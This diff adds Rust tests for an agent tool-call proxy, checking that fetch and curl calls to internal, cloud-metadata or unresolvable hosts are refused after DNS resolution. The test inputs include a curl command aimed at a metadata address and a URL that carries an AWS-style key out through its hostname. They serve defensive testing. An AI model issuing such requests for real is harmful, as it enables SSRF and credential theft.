@@ -1,0 +1,144 @@
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Instant;
+
+use bytes::Bytes;
+
+use super::*;
+use crate::config::{AuditConfig, Config, PolicyConfig};
+use crate::message::{Direction, Message};
+use crate::protocol::{AgentName, Context, Era, UpstreamName};
+use crate::proxy::judge::Onward;
+use crate::proxy::pipe::Pipe;
+use crate::proxy::{Gate, Policies};
+use crate::record::Recorder;
+use crate::rules::Library;
+
+const SHORT: Duration = Duration::from_millis(200);
+
+/// Names as in a zone of their own, and how often one was asked about.
+fn zone(asked: &Arc<AtomicUsize>) -> Resolver {
+    let asked = asked.clone();
+    Resolver::new(Arc::new(move |name| {
+        asked.fetch_add(1, Ordering::SeqCst);
+        let addresses: io::Result<Vec<IpAddr>> = match &*name {
+            "public.example" => Ok(vec![[93, 184, 216, 34].into()]),
+            "both.example" => Ok(vec![[93, 184, 216, 34].into(), [127, 0, 0, 1].into()]),
+            "inside.example" => Ok(vec![[10, 0, 0, 5].into()]),
+            "mapped.example" => Ok(vec!["::ffff:169.254.169.254".parse().unwrap()]),
+            "crowd.example" => {
+                Ok((0..=u32::try_from(ADDRESSES).unwrap()).map(|n| IpAddr::V4((0x0b00_0000 + n).into())).collect())
+            }
+            "slow.example" => return Box::pin(std::future::pending()),
+            _ => Err(io::ErrorKind::NotFound.into()),
+        };
+        Box::pin(async { addresses })
+    }))
+}
+
+fn policy(resolve: Option<Duration>) -> Policy {
+    let mut config = PolicyConfig::default();
+    config.places.resolve = resolve;
+    config.places.urls.allow = vec![crate::detect::url::HostPattern::read("allowed.example").unwrap()];
+    Policy::new("default", &config, &Library::load(true, &[]).unwrap()).unwrap()
+}
+
+fn call(tool: &str, argument: &str, value: &str) -> String {
+    let value = serde_json::to_string(value).unwrap();
+    format!(
+        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{tool}","arguments":{{"{argument}":{value}}}}}}}"#
+    )
+}
+
+fn recorder() -> Arc<Recorder> {
+    Arc::new(Recorder::new(&AuditConfig::default()).unwrap())
+}
+
+fn pipe(resolve: Option<Duration>, resolver: Resolver) -> Pipe {
+    let mut pipe = Pipe::new(policy(resolve), recorder(), &Config::default(), UpstreamName("u".into())).unwrap();
+    pipe.resolver = resolver;
+    pipe
+}
+
+/// The rule that refuses a line, if one does.
+fn refused(pipe: &Pipe, line: &str) -> Option<String> {
+    let passage = pipe.from_agent(&Bytes::from(line.to_owned() + "\n"));
+    let back: Vec<u8> = passage.back.concat();
+    let back = String::from_utf8(back).unwrap();
+    assert_eq!(passage.on.is_some(), back.is_empty(), "{back}");
+    back.split("(rule `").nth(1).and_then(|rest| rest.split('`').next()).map(str::to_owned)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn names_are_judged_by_what_they_resolve_to() {
+    let asked = Arc::new(AtomicUsize::new(0));
+    let pipe = pipe(Some(SHORT), zone(&asked));
+    for (tool, argument, value, rule) in [
+        ("fetch", "url", "https://public.example/a", None),
+        ("fetch", "url", "https://both.example/a", Some("url-internal")),
+        ("fetch", "url", "https://INSIDE.example./", Some("url-internal")),
+        ("fetch", "url", "http://mapped.example/latest", Some("url-metadata")),
+        ("fetch", "url", "https://public.example/go?url=https://inside.example/", Some("url-internal")),
+        ("fetch", "url", "https://nobody.example/", Some("url-unresolved")),
+        ("fetch", "url", "https://crowd.example/", Some("url-unresolved")),
+        ("fetch", "url", "https://slow.example/", Some("url-unresolved")),
+        ("fetch", "url", "https://allowed.example/", None),
+        ("run_command", "command", "curl -s https://mapped.example/latest", Some("url-metadata-command")),
+        ("run_command", "command", "curl -s https://nobody.example/", Some("url-unresolved")),
+        ("run_command", "command", "curl -s https://both.example/", None),
+        ("run_command", "command", "curl -s https://public.example/", None),
+        ("send_message", "text", "see https://nobody.example/", None),
+    ] {
+        assert_eq!(refused(&pipe, &call(tool, argument, value)).as_deref(), rule, "{value}");
+    }
+    let metrics = pipe.recorder().metrics_text();
+    assert!(metrics.contains("lychgate_limits_hit_total{limit=\"resolve_ms\"} 1"), "{metrics}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_is_looked_up_that_need_not_be() {
+    let asked = Arc::new(AtomicUsize::new(0));
+    let off = pipe(None, zone(&asked));
+    assert_eq!(refused(&off, &call("fetch", "url", "https://inside.example/")), None);
+    let on = pipe(Some(SHORT), zone(&asked));
+    for value in ["http://127.0.0.1/", "https://allowed.example/", "http://localhost/", "https://8.8.8.8/"] {
+        refused(&on, &call("fetch", "url", value));
+    }
+    // A name can carry a secret out by being looked up: what is refused anyway is not.
+    let key = "https://akia2e0a8f3b244c9986.example/?key=AKIA2E0A8F3B244C9986";
+    assert!(refused(&on, &call("fetch", "url", key)).is_some());
+    assert_eq!(asked.load(Ordering::SeqCst), 0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn there_is_a_bound_on_the_names_of_a_call() {
+    let asked = Arc::new(AtomicUsize::new(0));
+    let pipe = pipe(Some(SHORT), zone(&asked));
+    let most = crate::detect::url::NAMES;
+    let urls: Vec<String> = (0..=most).map(|at| format!("curl https://a{at}.example/")).collect();
+    assert_eq!(refused(&pipe, &call("run_command", "command", &urls.join("\n"))).as_deref(), Some("url-unresolved"));
+    assert_eq!(asked.load(Ordering::SeqCst), most);
+    let metrics = pipe.recorder().metrics_text();
+    assert!(metrics.contains("lychgate_limits_hit_total{limit=\"resolve_names\"} 1"), "{metrics}");
+}
+
+#[tokio::test]
+async fn a_call_through_the_gate_is_judged_so_too_however_long_it_is() {
+    let asked = Arc::new(AtomicUsize::new(0));
+    let (upstream, config) = (UpstreamName("u".into()), Config::default());
+    let policies = Policies::from([(upstream.clone(), Arc::new(policy(Some(SHORT))))]);
+    let mut gate = Gate::new(vec![], policies, recorder(), config.limits.clone(), &config.approval).unwrap();
+    gate.resolver = zone(&asked);
+    let context = Context { agent: AgentName("a".into()), upstream, era: Era::Legacy, session: None, asked: [].into() };
+    for (url, passes) in [("https://inside.example/", false), ("https://public.example/", true), ("https://slow.example/", false)]
+    {
+        for blanks in [0, 100_000] {
+            let text = call("fetch", "url", url) + &" ".repeat(blanks);
+            let message = Message::parse(text.into(), &config.limits.read).unwrap();
+            let started = Instant::now();
+            let judged = gate.judge(Direction::Outbound, &message, &context, None).await.unwrap();
+            assert_eq!(matches!(judged.outbound(&message).unwrap(), Onward::Pass), passes, "{url}");
+            assert!(started.elapsed() < Duration::from_secs(20), "{url}");
+        }
+    }
+    assert_eq!(asked.load(Ordering::SeqCst), 6);
+}
